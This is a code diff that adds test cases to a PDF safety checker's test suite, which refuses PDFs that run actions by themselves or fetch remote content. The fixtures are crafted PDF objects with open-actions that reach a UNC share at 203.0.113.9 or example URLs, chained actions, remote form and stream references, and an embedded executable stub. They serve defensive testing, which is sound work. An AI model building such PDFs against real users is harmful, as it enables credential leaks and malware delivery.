@@ -367,6 +367,10 @@ ATTACHED = {"/Type": "/Filespec", "/EF": {"/F": "none"}}
         ({"Names": {"/EmbeddedFiles": {"/Names": ["a", ATTACHED | {"/UF": "a.pdf", "/DOS": "a.exe"}]}}}, "program"),
         ({"OpenAction": {"/S": "/SubmitForm", "/F": "http://x"}}, "sends itself"),
         ({"OpenAction": {"/S": "/Rendition"}}, "film"),
+        ({"OpenAction": {"/S": "/GoToR", "/F": r"\\203.0.113.9\share\a.pdf"}}, "fetched"),
+        ({"OpenAction": {"/S": "/URI", "/URI": "http://x.example"}}, "fetched"),
+        ({"OpenAction": {"/S": "/GoTo", "/Next": {"/S": "/URI", "/URI": "http://x.example"}}}, "fetched"),
+        ({"AA": {"/WC": {"/S": "/Named", "/Next": [{"/S": "/Thread", "/F": "a.pdf"}]}}}, "fetched"),
     ],
 )
 def test_a_pdf_that_does_something_by_itself_is_refused(root: dict[str, object], words: str) -> None:
@@ -401,6 +405,10 @@ def written(*objects: str, trailer: str = "/Root 1 0 R") -> bytes:
 ROOT, PAGES = "<</Type/Catalog/Pages 2 0 R%s>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>"
 PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]%s>>"
 RUNS = "<</S/JavaScript/JS(app.alert(1))>>"
+UNC = r"(\\\\203.0.113.9\\share)"
+FORM = "<</Type/XObject/Subtype/Form/BBox[0 0 1 1]/Length 0%s>>\nstream\n\nendstream"
+DRAWN = "/Resources<</XObject<</I 4 0 R>>>>"
+ATTACHES = "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.pdf)/UF(a.pdf)/EF<</F 4 0 R>>>>]>>>>"
 LINKED = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/P 3 0 R%s>>]"
 
 
@@ -415,6 +423,13 @@ LINKED = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/P 3 0 R%s>>]"
         written(ROOT % f"/OpenAction[3 0 R/Fit]/OpenAction {RUNS}", PAGES, PAGE % ""),
         written(ROOT % f"/OpenAction[3 0 R/Fit]/Open#41ction {RUNS}", PAGES, PAGE % ""),
         written(ROOT % "", PAGES, PAGE % "", ROOT % f"/OpenAction {RUNS}", trailer="/Root 1 0 R/Root 4 0 R"),
+        written(ROOT % "", PAGES, PAGE % f"/AA<</O<</S/GoToR/F<</Type/Filespec/F{UNC}>>/D[0/Fit]>>>>"),
+        written(ROOT % "", PAGES, PAGE % (LINKED % f"/A<</S/GoToR/F{UNC}/D[0/Fit]>>")),
+        written(ROOT % "", PAGES, PAGE % "/Contents 4 0 R", f"<</Length 0/F{UNC}>>\nstream\n\nendstream"),
+        written(ROOT % "", PAGES, PAGE % DRAWN, FORM % "/F<</FS/URL/F(http://x.example/i.jpg)>>"),
+        written(ROOT % "", PAGES, PAGE % DRAWN, FORM % "/Ref<</F(http://x.example/a.pdf)/Page 0>>"),
+        written(ROOT % "", PAGES, PAGE % DRAWN, FORM % "/Resources<</XObject<</J 5 0 R>>>>", FORM % f"/F{UNC}"),
+        written(ROOT % ATTACHES, PAGES, PAGE % "", "<</Length 4>>\nstream\nMZ\x00\x00\nendstream"),
     ],
 )
 def test_a_pdf_that_hides_what_it_does_is_refused(content: bytes) -> None:
